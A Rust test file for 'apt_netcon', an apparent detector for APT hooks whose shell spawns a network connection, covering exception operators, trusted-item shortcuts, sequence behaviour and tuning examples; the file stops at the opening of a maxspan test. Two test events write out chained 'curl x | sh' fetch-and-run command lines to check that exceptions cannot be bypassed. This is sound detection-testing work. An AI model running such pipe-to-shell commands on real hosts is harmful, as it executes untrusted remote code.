//! Tuning for real fleets: exceptions (every operator, the `trusted_*`
//! shortcuts, where in a sequence they act), rule selection (TOML rule
//! files, `maxspan`), refusals and config errors, and docs/tuning.md's worked
//! examples ("Tuning", one test per false-positive case of the rule's
//! investigation guide).

mod scratch;

use apt_netcon::config::settings::KeyType;
use apt_netcon::{Config, Detector, RuleErrorKind, Verdict};
use serde_json::{json, Value};
use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Stdio};

// ---------------------------------------------------------------------------
// Events

/// 2024-05-01T10:00:00Z in ms.
const T0: i64 = 1_714_557_600_000;

const SH_HASH: &str = "1a8c2c7b3e5d4f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8";
const APT_HASH: &str = "2b9d3d8c4f6e5071829304b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9";
const CURL_HASH: &str = "3cae4e9d5071618293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a";

fn set_path(v: &mut Value, path: &str, val: Value) {
    let segs: Vec<&str> = path.split('.').collect();
    let mut cur = v;
    for s in &segs[..segs.len() - 1] {
        if !cur.get(*s).is_some_and(Value::is_object) {
            cur[*s] = json!({});
        }
        cur = cur.get_mut(*s).unwrap();
    }
    cur[segs[segs.len() - 1]] = val;
}

fn unset_path(v: &mut Value, path: &str) {
    let segs: Vec<&str> = path.split('.').collect();
    let mut cur = v;
    for s in &segs[..segs.len() - 1] {
        match cur.get_mut(*s) {
            Some(c) => cur = c,
            None => return,
        }
    }
    cur.as_object_mut().unwrap().remove(segs[segs.len() - 1]);
}

/// `sh -c <cmd>` exec'd by `apt` (entity `E1` on host `H1`) at `T0 + ms`.
fn shell(ms: i64) -> Value {
    json!({
        "@timestamp": apt_netcon::format::time::format_ms(T0 + ms),
        "event": {"category": ["process"], "type": ["start"], "action": "exec", "kind": "event"},
        "host": {"id": "H1", "name": "web-1", "os": {"type": "linux"}},
        "process": {
            "name": "sh", "pid": 100, "entity_id": "E1", "executable": "/usr/bin/sh",
            "args": ["sh", "-c", "/usr/local/sbin/apt-mirror-health"],
            "command_line": "sh -c /usr/local/sbin/apt-mirror-health",
            "hash": {"sha256": SH_HASH},
            "parent": {"name": "apt", "pid": 99, "entity_id": "P1", "executable": "/usr/bin/apt",
                       "hash": {"sha256": APT_HASH}}
        },
        "user": {"name": "root"}
    })
}

/// A child of `E1` (`curl`) attempting a connection to 45.33.32.156:443 at `T0 + ms`.
fn conn(ms: i64) -> Value {
    json!({
        "@timestamp": apt_netcon::format::time::format_ms(T0 + ms),
        "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted", "kind": "event"},
        "host": {"id": "H1", "name": "web-1", "os": {"type": "linux"}},
        "process": {"name": "curl", "pid": 101, "entity_id": "C1", "executable": "/usr/bin/curl",
                    "args": ["curl", "-s", "https://status.example.net/ping"],
                    "hash": {"sha256": CURL_HASH},
                    "parent": {"entity_id": "E1"}},
        "destination": {"ip": "45.33.32.156", "port": 443}
    })
}

fn with(mut v: Value, sets: &[(&str, Value)]) -> Value {
    for (k, x) in sets {
        set_path(&mut v, k, x.clone());
    }
    v
}

fn without(mut v: Value, paths: &[&str]) -> Value {
    for p in paths {
        unset_path(&mut v, p);
    }
    v
}

fn cfg(text: &str) -> Config {
    Config::from_json(text).unwrap_or_else(|e| panic!("{text}: {e}"))
}

/// Indices of the records annotated, and the detector.
fn run(cfg: &Config, events: &[Value]) -> (Vec<usize>, Detector) {
    let mut d = Detector::new(cfg).unwrap();
    let mut hits = vec![];
    for (i, e) in events.iter().enumerate() {
        if let Ok(Verdict::Annotated(_)) = d.process(&serde_json::to_vec(e).unwrap()) {
            hits.push(i);
        }
    }
    (hits, d)
}

/// The annotated records, parsed.
fn annotated(cfg: &Config, events: &[Value]) -> Vec<Value> {
    let mut d = Detector::new(cfg).unwrap();
    let mut out = vec![];
    for e in events {
        if let Ok(Verdict::Annotated(b)) = d.process(&serde_json::to_vec(e).unwrap()) {
            out.push(serde_json::from_slice(b).unwrap());
        }
    }
    out
}

fn alerts(cfg: &Config, events: &[Value]) -> usize {
    run(cfg, events).0.len()
}

fn count(d: &Detector, name: &str) -> u64 {
    d.exception_counts().iter().find(|(n, _)| n == name).unwrap_or_else(|| panic!("no item {name}")).1
}

/// One item with one entry, as JSON config text.
fn one(field: &str, op: &str, value: Option<Value>) -> Config {
    let mut entry = json!({"field": field, "operator": op});
    if let Some(v) = value {
        entry["value"] = v;
    }
    cfg(&json!({"exceptions": [{"name": "t", "entries": [entry]}]}).to_string())
}

/// Does this single-entry exception remove `event` (a stage match on its
/// own)?
fn excludes(field: &str, op: &str, value: Option<Value>, event: Value) -> bool {
    let c = one(field, op, value);
    let (_, d) = run(&c, &[event]);
    let n = count(&d, "t");
    assert_eq!(n, d.stats().excluded);
    assert_eq!(d.stats().stage_matches.iter().sum::<u64>() + n, 1, "the event is a stage match or excluded");
    n == 1
}

fn repo(p: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(p)
}

fn tmp(name: &str, content: &str) -> String {
    let dir = scratch::dir("tuning");
    let p = dir.join(name);
    std::fs::write(&p, content).unwrap();
    p.to_string_lossy().into_owned()
}

#[test]
fn the_base_pair_alerts_without_exceptions() {
    assert_eq!(run(&Config::default(), &[shell(0), conn(1200)]).0, [1]);
    let (hits, d) = run(&cfg(r#"{"trusted_process_names": ["nothing-like-this"]}"#), &[shell(0), conn(1200)]);
    assert_eq!(hits, [1]);
    assert_eq!(d.exception_counts(), [("trusted_process_names".to_string(), 0)]);
    assert_eq!(d.stats().excluded, 0);
}

// ---------------------------------------------------------------------------
// Operators, positive and negative

#[test]
fn operator_is() {
    assert!(excludes("process.name", "is", Some(json!("curl")), conn(1000)));
    assert!(!excludes("process.name", "is", Some(json!("wget")), conn(1000)));
    assert!(!excludes("process.name", "is", Some(json!("Curl")), conn(1000)), "exact, case-sensitive");
    assert!(!excludes("process.name", "is", Some(json!("cur")), conn(1000)), "whole value");
    // Any element of an array.
    assert!(excludes("process.args", "is", Some(json!("-s")), conn(1000)));
    // A number is compared as its keyword form, as a terms query on a long does.
    assert!(excludes("destination.port", "is", Some(json!("443")), conn(1000)));
    assert!(excludes("destination.port", "is", Some(json!(443)), conn(1000)));
    assert!(!excludes("destination.port", "is", Some(json!(80)), conn(1000)));
    // A missing field is never equal.
    assert!(!excludes("user.name", "is", Some(json!("root")), conn(1000)));
    // On an IP field: addresses (IPv4-mapped is the IPv4 address) and CIDR blocks.
    assert!(excludes("destination.ip", "is", Some(json!("::ffff:45.33.32.156")), conn(1000)));
    assert!(excludes("destination.ip", "is", Some(json!("45.33.32.0/24")), conn(1000)));
    assert!(!excludes("destination.ip", "is", Some(json!("45.33.33.0/24")), conn(1000)));
}

#[test]
fn operator_is_not() {
    assert!(excludes("process.name", "is not", Some(json!("wget")), conn(1000)));
    assert!(!excludes("process.name", "is not", Some(json!("curl")), conn(1000)));
    // Array: "is not" fails when ANY element equals the value.
    assert!(!excludes("process.args", "is not", Some(json!("-s")), conn(1000)));
    assert!(excludes("process.args", "is not", Some(json!("-v")), conn(1000)));
    // Missing field: Kibana's `must_not terms` is satisfied, so the entry holds.
    assert!(excludes("user.name", "is not", Some(json!("root")), conn(1000)));
}

#[test]
fn operator_is_one_of() {
    assert!(excludes("process.name", "is one of", Some(json!(["wget", "curl"])), conn(1000)));
    assert!(!excludes("process.name", "is one of", Some(json!(["wget", "nc"])), conn(1000)));
    assert!(!excludes("user.name", "is one of", Some(json!(["root"])), conn(1000)));
    assert!(excludes("destination.ip", "is one of", Some(json!(["10.0.0.0/8", "45.33.32.156"])), conn(1000)));
}

#[test]
fn operator_is_not_one_of() {
    assert!(excludes("process.name", "is not one of", Some(json!(["wget", "nc"])), conn(1000)));
    assert!(!excludes("process.name", "is not one of", Some(json!(["wget", "curl"])), conn(1000)));
    assert!(excludes("user.name", "is not one of", Some(json!(["root"])), conn(1000)), "missing field");
}

#[test]
fn operator_exists() {
    assert!(excludes("process.hash.sha256", "exists", None, conn(1000)));
    assert!(!excludes("user.id", "exists", None, conn(1000)));
    assert!(!excludes("user.id", "exists", None, with(conn(1000), &[("user.id", Value::Null)])), "null");
    assert!(!excludes("user.id", "exists", None, with(conn(1000), &[("user.id", json!([]))])), "empty array");
    assert!(
        excludes("user.id", "exists", None, with(conn(1000), &[("user.id", json!(""))])),
        "an empty keyword is indexed"
    );
}

#[test]
fn operator_does_not_exist() {
    assert!(excludes("user.id", "does not exist", None, conn(1000)));
    assert!(excludes("user.id", "does not exist", None, with(conn(1000), &[("user.id", Value::Null)])));
    assert!(!excludes("process.name", "does not exist", None, conn(1000)));
}

#[test]
fn operator_matches() {
    assert!(excludes("process.executable", "matches", Some(json!("/usr/bin/*")), conn(1000)));
    assert!(excludes("process.executable", "matches", Some(json!("/usr/bin/cur?")), conn(1000)));
    assert!(!excludes("process.executable", "matches", Some(json!("/usr/local/*")), conn(1000)));
    assert!(!excludes("process.executable", "matches", Some(json!("/USR/BIN/*")), conn(1000)), "case-sensitive");
    assert!(!excludes("process.executable", "matches", Some(json!("/usr/bin")), conn(1000)), "whole value");
    // `\` makes the next character literal.
    let star = with(conn(1000), &[("process.executable", json!("/opt/a*b"))]);
    assert!(excludes("process.executable", "matches", Some(json!(r"/opt/a\*b")), star.clone()));
    assert!(!excludes(
        "process.executable",
        "matches",
        Some(json!(r"/opt/a\*b")),
        with(conn(1000), &[("process.executable", json!("/opt/aXb"))])
    ));
    // Any element of an array; a missing field never matches.
    assert!(excludes("process.args", "matches", Some(json!("https://status.*")), conn(1000)));
    assert!(!excludes("process.command_line", "matches", Some(json!("*")), conn(1000)));
}

#[test]
fn operator_does_not_match() {
    assert!(excludes("process.executable", "does not match", Some(json!("/opt/*")), conn(1000)));
    assert!(!excludes("process.executable", "does not match", Some(json!("/usr/*")), conn(1000)));
    assert!(excludes("process.command_line", "does not match", Some(json!("*")), conn(1000)), "missing field");
}

#[test]
fn operator_is_in_cidr() {
    assert!(excludes("destination.ip", "is in cidr", Some(json!(["45.33.0.0/16"])), conn(1000)));
    assert!(excludes("destination.ip", "is in cidr", Some(json!("45.33.32.156")), conn(1000)), "one address");
    assert!(!excludes("destination.ip", "is in cidr", Some(json!(["45.34.0.0/16", "2001:db8::/32"])), conn(1000)));
    let mapped = with(conn(1000), &[("destination.ip", json!("::ffff:45.33.32.156"))]);
    assert!(excludes("destination.ip", "is in cidr", Some(json!(["45.33.0.0/16"])), mapped));
    let v6 = with(conn(1000), &[("destination.ip", json!("FD00::1"))]);
    assert!(excludes("destination.ip", "is in cidr", Some(json!(["fc00::/7"])), v6.clone()));
    assert!(
        !excludes("destination.ip", "is in cidr", Some(json!(["0.0.0.0/0"])), v6),
        "IPv4 blocks hold no native IPv6"
    );
}

#[test]
fn operator_is_not_in_cidr() {
    assert!(excludes("destination.ip", "is not in cidr", Some(json!(["9.9.9.0/24"])), conn(1000)));
    assert!(!excludes("destination.ip", "is not in cidr", Some(json!(["45.0.0.0/8"])), conn(1000)));
}

#[test]
fn entries_are_anded_and_items_ored() {
    let both = cfg(r#"{"exceptions": [{"name": "both", "entries": [
        {"field": "process.name", "operator": "is", "value": "curl"},
        {"field": "destination.port", "operator": "is", "value": "80"}]}]}"#);
    assert_eq!(alerts(&both, &[shell(0), conn(1000)]), 1, "one entry false: not excluded");
    assert_eq!(alerts(&both, &[shell(0), with(conn(1000), &[("destination.port", json!(80))])]), 0);
    let either = cfg(r#"{"exceptions": [
        {"name": "port 80", "entries": [{"field": "destination.port", "operator": "is", "value": "80"}]},
        {"name": "curl", "entries": [{"field": "process.name", "operator": "is", "value": "curl"}]},
        {"name": "root", "entries": [{"field": "user.name", "operator": "is", "value": "root"}]}]}"#);
    let (hits, d) = run(&either, &[shell(0), conn(1000)]);
    assert!(hits.is_empty());
    // Every item that matches an event counts it; `excluded` counts events.
    assert_eq!(d.exception_counts(), [("port 80".to_string(), 0), ("curl".to_string(), 1), ("root".to_string(), 1)]);
    assert_eq!(d.stats().excluded, 2, "the shell (root) and the connection (curl)");
}

#[test]
fn kibana_stored_entries_work_as_written_in_kibana() {
    let c = cfg(r#"{"exceptions": [{"name": "k", "description": "copied from a Kibana exception item", "entries": [
        {"field": "process.name", "type": "match", "operator": "included", "value": "curl"},
        {"field": "destination.ip", "type": "match_any", "operator": "included", "value": ["45.33.32.156"]},
        {"field": "process.executable", "type": "wildcard", "operator": "included", "value": "/usr/bin/*"},
        {"field": "user.id", "type": "exists", "operator": "excluded"},
        {"field": "process.name", "type": "match", "operator": "excluded", "value": "wget"}]}]}"#);
    assert_eq!(alerts(&c, &[shell(0), conn(1000)]), 0);
    assert_eq!(alerts(&c, &[shell(0), with(conn(1000), &[("user.id", json!("0"))])]), 1);
}

// ---------------------------------------------------------------------------
// Shortcuts

#[test]
fn shortcut_trusted_destination_cidrs() {
    let c = cfg(r#"{"trusted_destination_cidrs": ["45.33.32.0/24", "2001:db8::/32"]}"#);
    let (hits, d) = run(&c, &[shell(0), conn(1000)]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "trusted_destination_cidrs"), 1);
    assert_eq!(alerts(&c, &[shell(0), with(conn(1000), &[("destination.ip", json!("45.33.33.1"))])]), 1);
    assert_eq!(alerts(&c, &[shell(0), with(conn(1000), &[("destination.ip", json!("2001:db8::7"))])]), 0);
}

#[test]
fn shortcut_trusted_executables() {
    let c = cfg(r#"{"trusted_executables": ["/opt/vendor/*", "/usr/bin/cur?"]}"#);
    let (hits, d) = run(&c, &[shell(0), conn(1000)]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "trusted_executables"), 1);
    assert_eq!(alerts(&c, &[shell(0), with(conn(1000), &[("process.executable", json!("/usr/bin/wget"))])]), 1);
    assert_eq!(alerts(&c, &[shell(0), with(conn(1000), &[("process.executable", json!("/opt/vendor/bin/sync"))])]), 0);
}

#[test]
fn shortcut_trusted_hashes_cover_the_process_and_its_parent() {
    let upper = CURL_HASH.to_ascii_uppercase();
    let c = cfg(&json!({"trusted_hashes": [upper]}).to_string());
    assert_eq!(c.trusted_hashes, [CURL_HASH], "stored lower-case, as Elastic Defend writes hashes");
    let (hits, d) = run(&c, &[shell(0), conn(1000)]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "trusted_hashes"), 1);
    assert_eq!(count(&d, "trusted_parent_hashes"), 0);
    assert_eq!(alerts(&c, &[shell(0), without(conn(1000), &["process.hash"])]), 1, "no hash, no exclusion");
    // A trusted (in-house) shell build: its exec is the shell event's
    // process, and the connection's parent.
    let c = cfg(&json!({"trusted_hashes": [SH_HASH]}).to_string());
    let child = with(conn(1000), &[("process.parent.hash.sha256", json!(SH_HASH))]);
    let (hits, d) = run(&c, &[shell(0), child]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "trusted_hashes"), 1, "the shell event");
    assert_eq!(count(&d, "trusted_parent_hashes"), 1, "the connection");
}

#[test]
fn shortcut_trusted_process_names() {
    let c = cfg(r#"{"trusted_process_names": ["curl"]}"#);
    let (hits, d) = run(&c, &[shell(0), conn(1000)]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "trusted_process_names"), 1);
    assert_eq!(alerts(&c, &[shell(0), with(conn(1000), &[("process.name", json!("CURL"))])]), 1, "exact");
}

#[test]
fn shortcut_trusted_command_lines() {
    let c = cfg(r#"{"trusted_command_lines": ["sh -c /usr/local/sbin/apt-mirror-health"]}"#);
    let (hits, d) = run(&c, &[shell(0), conn(1000)]);
    assert!(hits.is_empty(), "the shell is excluded, so nothing starts");
    assert_eq!(count(&d, "trusted_command_lines"), 1);
    assert_eq!(d.stats().stage_matches[0], 0, "an excluded event is not a stage match");
    let chained =
        with(shell(0), &[("process.command_line", json!("sh -c /usr/local/sbin/apt-mirror-health; curl x | sh"))]);
    assert_eq!(alerts(&c, &[chained, conn(1000)]), 1, "the pattern must match the whole command line");
}

#[test]
fn shortcuts_given_as_text_properties() {
    let mut c = Config::default();
    c.set_str("trusted_process_names", "curl, wget").unwrap();
    c.set_str("Trusted_Process_Names", "nc").unwrap();
    assert_eq!(c.trusted_process_names, ["curl", "wget", "nc"], "comma-separated; repeated keys add up");
    c.set_str("trusted_command_lines", r#"["sh -c a, b", "zsh -c c"]"#).unwrap();
    assert_eq!(c.trusted_command_lines, ["sh -c a, b", "zsh -c c"], "a JSON array keeps commas");
    c.set_str(
        "exceptions",
        r#"{"name": "one", "entries": [{"field": "process.name", "operator": "is", "value": "x"}]}"#,
    )
    .unwrap();
    c.set_str("exceptions", r#"[{"name": "two", "entries": [{"field": "process.name", "operator": "exists"}]}]"#)
        .unwrap();
    let names: Vec<String> = c.exception_items().into_iter().map(|i| i.name).collect();
    assert_eq!(names, ["one", "two", "trusted_process_names", "trusted_command_lines"]);
    c.set_str("maxspan", "30s").unwrap();
    assert_eq!(c.maxspan_ms, Some(30_000));
    let e = c.set_str("exceptions", "curl").unwrap_err();
    assert!(e.to_string().contains("JSON array"), "{e}");
}

// ---------------------------------------------------------------------------
// Where exceptions act in the sequence: the EQL request's `filter`, applied
// to every stage, makes an excluded event invisible.

#[test]
fn an_exception_on_the_shell_event_starts_nothing() {
    let c = cfg(r#"{"exceptions": [{"name": "root shells", "entries": [
        {"field": "event.action", "operator": "is", "value": "exec"},
        {"field": "user.name", "operator": "is", "value": "root"}]}]}"#);
    let (hits, d) = run(&c, &[shell(0), conn(1000)]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "root shells"), 1);
    let s = d.stats();
    assert_eq!((s.excluded, s.stage_matches[0], s.stage_matches[1], s.pending), (1, 0, 1, 0));
    // The same shell run by another user is not excluded.
    assert_eq!(alerts(&c, &[with(shell(0), &[("user.name", json!("deploy"))]), conn(1000)]), 1);
}

#[test]
fn an_excluded_shell_does_not_replace_the_waiting_one() {
    // Two execs with the same entity id (the key): without exceptions the
    // newer replaces the older; an excluded newer one is invisible.
    let second = with(shell(3000), &[("user.name", json!("ci"))]);
    let events = [shell(0), second, conn(4000)];
    let plain = annotated(&Config::default(), &events);
    assert_eq!(plain[0]["apt_netcon"]["span_ms"], 1000);
    let c = cfg(
        r#"{"exceptions": [{"name": "ci", "entries": [{"field": "user.name", "operator": "is", "value": "ci"}]}]}"#,
    );
    let tuned = annotated(&c, &events);
    assert_eq!(tuned.len(), 1);
    assert_eq!(tuned[0]["apt_netcon"]["span_ms"], 4000, "paired with the first, visible shell");
}

#[test]
fn an_exception_on_the_network_event_completes_and_consumes_nothing() {
    // The first connection is to a trusted mirror, the second is not: the
    // shell must still be waiting for the second one.
    let mirror = with(conn(1000), &[("destination.ip", json!("185.125.190.36"))]);
    let events = [shell(0), mirror, conn(2000)];
    assert_eq!(run(&Config::default(), &events).0, [1], "untuned: the first connection consumes the shell");
    let c = cfg(r#"{"trusted_destination_cidrs": ["185.125.188.0/22"]}"#);
    let (hits, d) = run(&c, &events);
    assert_eq!(hits, [2]);
    assert_eq!(count(&d, "trusted_destination_cidrs"), 1);
    assert_eq!(d.stats().stage_matches[1], 1, "only the visible connection is a stage-2 match");
}

#[test]
fn excluded_events_do_not_move_the_watermark() {
    // A far-future excluded connection arrives first; if it advanced event
    // time, the shell would expire before its real child arrives.
    let future = with(conn(600_000), &[("process.name", json!("mirror-sync"))]);
    let events = [shell(0), future, conn(1000)];
    let c = cfg(r#"{"trusted_process_names": ["mirror-sync"]}"#);
    let (hits, d) = run(&c, &events);
    assert_eq!(hits, [2]);
    assert_eq!(d.watermark(), Some(T0 + 1000));
    // Untuned, the far-future connection is visible: it takes the shell
    // (and is rejected by maxspan), so the real child finds nothing.
    let (hits, d) = run(&Config::default(), &events);
    assert!(hits.is_empty());
    assert_eq!(d.stats().rejected_by_maxspan + d.stats().expired_by_maxspan, 1);
}

#[test]
fn exceptions_do_not_change_alert_ids() {
    let events = [shell(0), conn(1000)];
    let plain = annotated(&Config::default(), &events);
    let tuned = annotated(
        &cfg(
            r#"{"trusted_hashes": ["00000000000000000000000000000000000000000000000000000000000000ff"], "trusted_executables": ["/nowhere/*"]}"#,
        ),
        &events,
    );
    assert_eq!(plain, tuned, "new fields read for exceptions are not part of the events' identity");
}

#[test]
fn exceptions_file_adds_items() {
    let path = repo("tests/data/tuning/exceptions.json");
    let c = cfg(&json!({"exceptions_file": path, "trusted_process_names": ["wget"]}).to_string());
    assert_eq!(c.exceptions.len(), 1);
    let sync = with(
        conn(1000),
        &[("process.executable", json!("/usr/local/bin/mirror-sync")), ("destination.ip", json!("185.125.190.36"))],
    );
    let (hits, d) = run(&c, &[shell(0), sync]);
    assert!(hits.is_empty());
    assert_eq!(d.exception_counts(), [("corp mirror sync".to_string(), 1), ("trusted_process_names".to_string(), 0)]);
}

// ---------------------------------------------------------------------------
// The worked examples of docs/tuning.md: each JSON snippet is there verbatim.

fn readme_has(snippet: &str) {
    let page = std::fs::read_to_string(repo("docs/tuning.md")).unwrap();
    assert!(page.contains(snippet), "docs/tuning.md must show this config verbatim:\n{snippet}");
}

const GUIDE_A: &str = r#"{
  "trusted_executables": ["/usr/local/sbin/apt-mirror-health"],
  "trusted_hashes": ["9f2c4e6a8b0d1f3e5a7c9b1d3f5e7a9c0b2d4f6e8a1c3e5b7d9f0a2c4e6b8d0f"]
}"#;
const HEALTH_HASH: &str = "9f2c4e6a8b0d1f3e5a7c9b1d3f5e7a9c0b2d4f6e8a1c3e5b7d9f0a2c4e6b8d0f";

#[test]
fn guide_a_known_script_by_path_or_hash() {
    readme_has(GUIDE_A);
    let health = with(
        conn(1000),
        &[
            ("process.name", json!("apt-mirror-health")),
            ("process.executable", json!("/usr/local/sbin/apt-mirror-health")),
            ("process.hash.sha256", json!(HEALTH_HASH)),
        ],
    );
    let (hits, d) = run(&cfg(GUIDE_A), &[shell(0), health.clone()]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "trusted_executables"), 1);
    assert_eq!(count(&d, "trusted_hashes"), 1);
    // Either key alone is enough.
    assert_eq!(
        alerts(&cfg(r#"{"trusted_executables": ["/usr/local/sbin/apt-mirror-health"]}"#), &[shell(0), health.clone()]),
        0
    );
    let by_hash = cfg(&json!({"trusted_hashes": [HEALTH_HASH]}).to_string());
    assert_eq!(alerts(&by_hash, &[shell(0), health.clone()]), 0);
    // The hash pins the build: a replaced file at the same path still alerts.
    let replaced = with(health, &[("process.hash.sha256", json!(CURL_HASH))]);
    assert_eq!(alerts(&by_hash, &[shell(0), replaced]), 1);
    // Anything else the hook runs still alerts.
    assert_eq!(alerts(&cfg(GUIDE_A), &[shell(0), conn(1000)]), 1);
}

const GUIDE_B: &str = r#"{
  "exceptions": [
    {
      "name": "mirror list refresh",
      "description": "the mirror-select hook fetching the mirror list over HTTPS",
      "entries": [
        {"field": "process.name", "operator": "is", "value": "curl"},
        {"field": "destination.ip", "operator": "is in cidr", "value": ["185.125.188.0/22", "2620:2d:4000::/44"]},
        {"field": "destination.port", "operator": "is", "value": "443"}
      ]
    }
  ]
}"#;

#[test]
fn guide_b_update_traffic_by_process_and_destination() {
    readme_has(GUIDE_B);
    let c = cfg(GUIDE_B);
    let refresh = with(conn(1000), &[("destination.ip", json!("185.125.190.36"))]);
    let (hits, d) = run(&c, &[shell(0), refresh.clone()]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "mirror list refresh"), 1);
    let v6 = with(conn(1000), &[("destination.ip", json!("2620:2d:4000:1::16"))]);
    assert_eq!(alerts(&c, &[shell(0), v6]), 0);
    // Every entry must hold: another port, another program, another place.
    assert_eq!(alerts(&c, &[shell(0), with(refresh.clone(), &[("destination.port", json!(80))])]), 1);
    assert_eq!(alerts(&c, &[shell(0), with(refresh, &[("process.name", json!("wget"))])]), 1);
    assert_eq!(alerts(&c, &[shell(0), conn(1000)]), 1);
}

const GUIDE_C: &str = r#"{
  "trusted_destination_cidrs": ["fc00::/7", "44.31.0.0/16"]
}"#;

#[test]
fn guide_c_internal_ranges_beyond_the_built_in_list() {
    readme_has(GUIDE_C);
    let c = cfg(GUIDE_C);
    let to = |ip: &str| with(conn(1000), &[("destination.ip", json!(ip))]);
    // Untuned, ULA and the internal public block alert.
    assert_eq!(alerts(&Config::default(), &[shell(0), to("fd12:3456:789a::10")]), 1);
    assert_eq!(alerts(&Config::default(), &[shell(0), to("44.31.7.20")]), 1);
    for ip in ["fd12:3456:789a::10", "FC00::1", "44.31.7.20", "::ffff:44.31.7.20"] {
        assert_eq!(alerts(&c, &[shell(0), to(ip)]), 0, "{ip}");
    }
    for ip in ["44.32.0.1", "2001:db8::1", "45.33.32.156"] {
        assert_eq!(alerts(&c, &[shell(0), to(ip)]), 1, "{ip}");
    }
}

const GUIDE_D: &str = r#"{
  "trusted_executables": ["/opt/acme-agent/bin/*"],
  "trusted_process_names": ["apt-cacher-probe"],
  "trusted_command_lines": ["zsh -c /etc/apt/hooks.d/refresh-motd"]
}"#;

#[test]
fn guide_d_alternative_shells_custom_scripts_and_apt_tools() {
    readme_has(GUIDE_D);
    let c = cfg(GUIDE_D);
    // An alternative shell running a custom script: the shell event is excluded.
    let zsh = with(
        shell(0),
        &[
            ("process.name", json!("zsh")),
            ("process.executable", json!("/usr/bin/zsh")),
            ("process.args", json!(["zsh", "-c", "/etc/apt/hooks.d/refresh-motd"])),
            ("process.command_line", json!("zsh -c /etc/apt/hooks.d/refresh-motd")),
        ],
    );
    let (hits, d) = run(&c, &[zsh.clone(), conn(1000)]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "trusted_command_lines"), 1);
    assert_eq!(alerts(&Config::default(), &[zsh.clone(), conn(1000)]), 1, "untuned it alerts");
    let abused = with(zsh, &[("process.command_line", json!("zsh -c /etc/apt/hooks.d/refresh-motd; curl -s x | sh"))]);
    assert_eq!(alerts(&c, &[abused, conn(1000)]), 1);
    // A third-party APT tool, by executable path.
    let agent = with(conn(1000), &[("process.executable", json!("/opt/acme-agent/bin/acme-apt-sync"))]);
    let (hits, d) = run(&c, &[shell(0), agent]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "trusted_executables"), 1);
    let elsewhere = with(conn(1000), &[("process.executable", json!("/opt/acme-agent/bin-old/acme-apt-sync"))]);
    assert_eq!(alerts(&c, &[shell(0), elsewhere]), 1);
    // A tool installed in varying places, by process name.
    let probe = with(
        conn(1000),
        &[("process.name", json!("apt-cacher-probe")), ("process.executable", json!("/srv/tools/apt-cacher-probe"))],
    );
    let (hits, d) = run(&c, &[shell(0), probe.clone()]);
    assert!(hits.is_empty());
    assert_eq!(count(&d, "trusted_process_names"), 1);
    assert_eq!(alerts(&c, &[shell(0), with(probe, &[("process.name", json!("Apt-Cacher-Probe"))])]), 1);
}

// ---------------------------------------------------------------------------
// Rule selection: TOML rule files, maxspan

fn sample() -> Vec<u8> {
    std::fs::read(repo("examples/data/sample.ndjson")).unwrap()
}

fn filter_all(cfg: &Config, input: &[u8]) -> Vec<u8> {
    let mut d = Detector::new(cfg).unwrap();
    let mut out = Vec::new();
    for line in input.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
        match d.process(line) {
            Ok(Verdict::Annotated(b)) => out.extend_from_slice(b),
            _ => out.extend_from_slice(line),
        }
        out.push(b'\n');
    }
    out
}

#[test]
fn toml_rule_file_round_trip_matches_the_built_in_rule() {
    let path = repo("tests/data/tuning/apt_netcon_v5.toml").to_string_lossy().into_owned();
    let c = Config { rule_file: Some(path), ..Config::default() };
    let rule = c.load_rule().unwrap();
    let builtin = apt_netcon::Rule::builtin("apt_netcon_v5").unwrap();
    // The file's look-back (`from`) is the one thing the built-in rule lacks.
    let mut meta = rule.meta().clone();
    assert_eq!(meta.look_back_ms.take(), Some(9 * 60_000), "from = \"now-9m\"");
    assert_eq!(&meta, builtin.meta(), "metadata read from the TOML file");
    assert_eq!(rule.query_text().trim(), builtin.query_text().trim());
    let input = sample();
    let ours = filter_all(&c, &input);
    assert_eq!(ours, filter_all(&Config::default(), &input), "same alerts, byte for byte");
    assert_eq!(ours.windows(13).filter(|w| w == b"\"apt_netcon\":").count(), 2);
}

#[test]
fn toml_rule_metadata_goes_into_the_alerts() {
    let path = repo("tests/data/tuning/fleet_tuned.toml").to_string_lossy().into_owned();
    let c = Config { rule_file: Some(path), ..Config::default() };
    let d = Detector::new(&c).unwrap();
    assert_eq!(d.maxspan_ms(), Some(10_000));
    let out = annotated(&c, &[shell(0), conn(8000)]);
    assert_eq!(out.len(), 1, "within the file's 10 s maxspan");
    let a = &out[0];
    assert_eq!(a["rule"]["name"], "APT Hook Downloader Beacon (fleet)");
    assert_eq!(a["rule"]["id"], "0b6f3c52-6f7e-4d1a-9d1e-4f0e6a2b7c11");
    assert_eq!(a["rule"]["version"], "3", "ECS rule.version is a keyword");
    assert_eq!(a["rule"]["license"], "Apache-2.0");
    assert_eq!(a["threat"]["framework"], "MITRE ATT&CK");
    assert_eq!(a["threat"]["tactic"]["id"], json!(["TA0003"]));
    assert_eq!(a["threat"]["technique"]["id"], json!(["T1546"]));
    assert_eq!(a["threat"]["technique"]["subtechnique"]["id"], json!(["T1546.016"]));
    let k = &a["kibana"]["alert"];
    assert_eq!(k["severity"], "high");
    assert_eq!(k["risk_score"], 73);
    assert_eq!(k["rule"]["rule_id"], "0b6f3c52-6f7e-4d1a-9d1e-4f0e6a2b7c11");
    assert_eq!(
        k["rule"]["threat"][0]["technique"][0]["subtechnique"][0]["reference"],
        "https://attack.mitre.org/techniques/T1546/016/"
    );
    assert!(k["reason"].as_str().unwrap().contains("APT Hook Downloader Beacon (fleet)"));
    // Its stage 2 only takes curl and wget.
    assert_eq!(alerts(&c, &[shell(0), with(conn(1000), &[("process.name", json!("nc"))])]), 0);
}

#[test]
fn maxspan_override() {
